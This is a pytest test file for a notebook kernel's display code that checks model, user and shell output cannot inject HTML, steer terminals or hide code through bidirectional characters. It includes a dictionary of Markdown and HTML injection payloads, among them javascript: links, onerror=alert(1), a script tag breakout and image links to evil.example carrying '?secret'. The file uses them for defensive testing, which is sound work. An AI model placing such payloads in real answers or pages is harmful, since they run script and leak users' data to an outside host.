"""No text of a model, a person or a shell acts or hides in what is shown of it."""

import json
import re
import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import mistune
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from test_display import HOSTILE, OURS, hostile
from worldmodel_kernel.display import (
    MIME,
    Bundle,
    block_bundle,
    error_bundle,
    note_bundle,
    prediction_bundle,
    status_bundle,
    surprise_bundle,
    table_bundle,
    waiting_bundle,
)
from worldmodel_kernel.highlighting import highlighted
from worldmodel_kernel.markdown import defused
from worldmodel_kernel.records import BlockRecord, TurnRecord
from worldmodel_kernel.surprise import ScoredToken
from worldmodel_kernel.visible import visible, visible_code, without_escapes

STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
)
CASES = json.loads((Path(__file__).parent / "visible.json").read_text())
"""The same for the extension."""

TROJAN = (
    "access = 'user\u202e \u2066# only admins\u2069 \u2066'\nif access:\r    x\x00y\x1b[2Jz\x9b31m"
)
steering = st.text(
    alphabet="ab \n\t<&\r\x00\x07\x1b\x7f\x85\x9b\u2028\u202a\u202e\u2066\u2069\ud800"
)

BUNDLES: dict[str, Callable[[str], Bundle]] = {
    "thinking": lambda text: block_bundle(BlockRecord("think", text)),
    "plan": lambda text: block_bundle(BlockRecord("plan", text)),
    "requires": lambda text: block_bundle(BlockRecord("requires", text)),
    "a kind of its own": lambda text: block_bundle(BlockRecord(text[:50], "x")),
    "code": lambda text: block_bundle(
        BlockRecord("code", text, status=text[:50], execution_count=3, written=text)
    ),
    "answer": lambda text: block_bundle(BlockRecord("text", text)),
    "error": lambda text: error_bundle(text, text, [text, text]),
    "status": lambda text: status_bundle(
        TurnRecord("1", text, model=text, adapter=text, ending=text, detail=text, notices=(text,))
    ),
    "prediction": lambda text: prediction_bundle(text, text, text, right=False, score=text[:50]),
    "surprise": lambda text: surprise_bundle([ScoredToken(text, -9.0, text, -0.1)] * 3),
    "table": lambda text: table_bundle([(text, text)] * 2, heading=("name", "value")),
    "note": note_bundle,
    "waiting": waiting_bundle,
}
"""Every display of ours, with one text in all of its fields."""


def shown(bundle: Bundle) -> Iterator[str]:
    """The texts of a bundle that a reader may see."""
    return (text for kind, text in bundle.items() if kind != MIME)


class Page(HTMLParser):
    """What a browser would make of HTML."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


# --- nothing acts -------------------------------------------------------------------------------


def assert_inert(source: str) -> None:
    for name, attributes in Page(source).elements:
        assert name in OURS
        assert attributes.keys() <= {"style", "open", "title"}
        assert re.fullmatch(r"[\w\s:;%#.,()-]*", attributes.get("style", ""))
        assert "url" not in attributes.get("style", "")


@pytest.mark.parametrize("name", BUNDLES)
@given(text=hostile)
def test_no_word_becomes_an_element_an_attribute_or_an_address(name: str, text: str) -> None:
    for each in (text, HOSTILE + text, f"a' onclick='x\n\" style=\"{text}"):
        assert_inert(BUNDLES[name](each).get("text/html", ""))


@pytest.mark.parametrize("name", BUNDLES)
@given(text=steering)
def test_what_steers_a_terminal_or_the_reading_order_is_spelled_out(name: str, text: str) -> None:
    for each in (text, TROJAN):
        bundle = BUNDLES[name](each)
        assert not [found for part in shown(bundle) for found in STEERING.findall(part)]


def test_code_reads_in_the_order_in_which_it_runs() -> None:
    bundle = block_bundle(BlockRecord("code", TROJAN))

    assert "⟨U+202E⟩ ⟨U+2066⟩# only admins⟨U+2069⟩" in Page(bundle["text/html"]).text
    assert "⟨U+202E⟩ ⟨U+2066⟩# only admins⟨U+2069⟩" in bundle["text/plain"]
    assert bundle[MIME]["block"]["text"] == TROJAN


@pytest.mark.parametrize("case", CASES)
def test_what_hides_is_spelled_out(case: dict[str, str]) -> None:
    assert visible(case["text"]) == case["words"]
    assert visible_code(case["text"]) == case.get("code", case["words"])


@pytest.mark.parametrize("letter", ["\u200b", "\u3164", "\ufeff", "\U000e0041"])
def test_an_invisible_letter_of_code_is_seen(letter: str) -> None:
    assert f"⟨U+{ord(letter):04X}⟩" in visible_code(f"x{letter} = 1")


def test_words_keep_their_emoji_and_their_direction_marks() -> None:
    words = "👩‍💻 ✔️ نمی‌خواهم \u200fשלום\u200e, soft\u00adly"

    assert visible(words) == words
    assert visible_code("x = '👩‍💻 ✔️'") == "x = '👩‍💻 ✔️'"


@given(st.text(alphabet="ab \n'\"#%!?(){}=\\\r\tf\u202e<&"))
def test_highlighting_changes_no_character_of_the_code(code: str) -> None:
    assert Page(highlighted(visible_code(code))).text == visible_code(code)


ESCAPES = {
    "colours": "\x1b[1;31m",
    "a link": "\x1b]8;;https://example.org\x1b\\",
    "a title": "\x1b]0;title\x07",
    "an eight-bit move": "\x9b2J",
    "a charset": "\x1b(B",
    "a reset": "\x1bc",
}


@pytest.mark.parametrize("name", ESCAPES)
def test_terminal_sequences_of_the_shell_are_removed(name: str) -> None:
    assert without_escapes(f"a{ESCAPES[name]}b") == "ab"


@pytest.mark.parametrize("name", BUNDLES)
@pytest.mark.parametrize(
    "unit", ["x", "<", "\x1b]", "\x9d", "\x1b[", "\u202e", "![", "`~ ", "javascript ", "'", "{"]
)
def test_a_line_of_a_megabyte_is_short_and_quick(name: str, unit: str) -> None:
    text = unit * (1_000_000 // len(unit))
    begun = time.perf_counter()
    bundle = BUNDLES[name](text)

    assert time.perf_counter() - begun < 10
    # at worst each character that is shown is spelled out, in a colour
    assert all(len(part) < 1_000_000 for part in shown(bundle))
    if unit == "x":
        assert all(len(part) < 150_000 for part in shown(bundle))


def test_only_what_is_shown_is_cut() -> None:
    text = "word " * 200_000

    assert "more characters" in BUNDLES["answer"](text)["text/markdown"]
    assert BUNDLES["answer"](text)[MIME]["block"]["text"] == text


# --- the answer ---------------------------------------------------------------------------------

PROSE = set(
    "p em strong a ul ol li code pre blockquote h1 h2 h3 h4 h5 h6 hr br img "
    "table thead tbody tr th td del s".split()
)
HARMFUL = re.compile(r"(javascript|vbscript|data|file):", re.IGNORECASE)
PIECES = [
    *("[x](", "[x](<", "![x](", "![x][a]", "[a]: ", ")", ">)", "](", "[", "!", "<", ">", "/"),
    *("java", "script", "JavaScript:", "data:", "text/html,", ":", "\\", "\t", "\n", " ", "&"),
    *("&colon;", "&#115;", "&Tab;", "//evil.example/x.png", "http://evil.example/", "img src=x "),
    *("onerror=alert(1)", "script>", "`", "```", "~~~", "mermaid", "$", "*", "_", "a", "plot.png"),
]


def careless_mistune() -> Callable[[str], Any]:
    """A renderer that lets everything through."""
    renderer = mistune.HTMLRenderer(escape=False, allow_harmful_protocols=True)
    return mistune.create_markdown(renderer=renderer, plugins=["table", "strikethrough", "url"])


def careless_markdown_it() -> Callable[[str], Any]:
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    return parser.render


RENDERERS = {"mistune": careless_mistune(), "markdown-it": careless_markdown_it()}


def address(found: str) -> str:
    """As a browser reads it: blanks around it and tabs within are dropped."""
    return re.sub(r"[\t\r\n]", "", found.strip("".join(map(chr, range(33)))))


def assert_harmless_answer(source: str) -> None:
    for name, attributes in Page(source).elements:
        assert name in PROSE
        assert attributes.keys() <= {"href", "src", "alt", "title", "class", "start", "style"}
        assert not HARMFUL.match(address(attributes.get("href", "")))
        assert re.fullmatch(r"(?!/)[\w./%-]*", address(attributes.get("src", "")))
        assert not attributes.get("class", "").startswith("language-mermaid")


@pytest.mark.parametrize("renderer", RENDERERS)
@given(text=st.lists(st.sampled_from(PIECES)).map("".join) | hostile)
def test_an_answer_is_harmless_even_where_a_renderer_is_careless(renderer: str, text: str) -> None:
    assert_harmless_answer(RENDERERS[renderer](defused(text)))


ATTACKS = {
    "a backslash before the colon": r"[x](javascript\:alert(1))",
    "an entity for the colon": "[x](javascript&colon;alert(1))",
    "an entity for a letter": "[x](java&#115;cript:alert(1))",
    "a reference": "[x]\n\n[x]: JaVaScRiPt:alert(1)",
    "an autolink": "<javascript:alert(1)>",
    "a page in the address": "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "a picture from elsewhere": "![x](https://evil.example/pixel.png?secret)",
    "a picture without a scheme": "![x](//evil.example/pixel.png)",
    "a picture by reference": "![x][a]\n\n[a]: https://evil.example/pixel.png",
    "a picture in a link": "[![x](https://evil.example/a.png)](https://evil.example)",
    "an escaped bracket in a picture": r"![x\](a.png)](https://evil.example/pixel.png?secret)",
    "code in a picture": "![x`](a.png)`](https://evil.example/pixel.png?secret)",
    "code before a picture": "![x`y ![z`](https://evil.example/a.png) ![z](a.png)",
    "an autolink in a picture": "![x<https://a](a.png)>](https://evil.example/pixel.png?secret)",
    "a picture by its name alone": "![x]\n\n[x]: https://evil.example/pixel.png",
    "a diagram": '```mermaid\nflowchart\nA@{ img: "https://evil.example/diagram.png" }\n```',
    "an element": "<img src=https://evil.example/element.png onerror=alert(1)>",
    "a comment": "<!-- --!><script>alert(1)</script>",
}


@pytest.mark.parametrize("renderer", RENDERERS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_on_the_answer_is_harmless(attack: str, renderer: str) -> None:
    text = ATTACKS[attack]
    with pytest.raises(AssertionError):
        assert_harmless_answer(RENDERERS[renderer](text))

    assert_harmless_answer(RENDERERS[renderer](defused(text)))


def test_a_formula_in_a_picture_ends_before_it() -> None:
    """JupyterLab takes formulas out before it reads the Markdown."""
    text = "![x $](a.png)$](https://evil.example/pixel.png?secret)"

    assert "![" not in defused(text)


@pytest.mark.parametrize("renderer", RENDERERS)
def test_a_picture_beside_the_notebook_is_shown(renderer: str) -> None:
    rendered = RENDERERS[renderer](defused("See ![the plot](figures/plot_1.png)."))

    assert ("img", {"src": "figures/plot_1.png", "alt": "the plot"}) in Page(rendered).elements
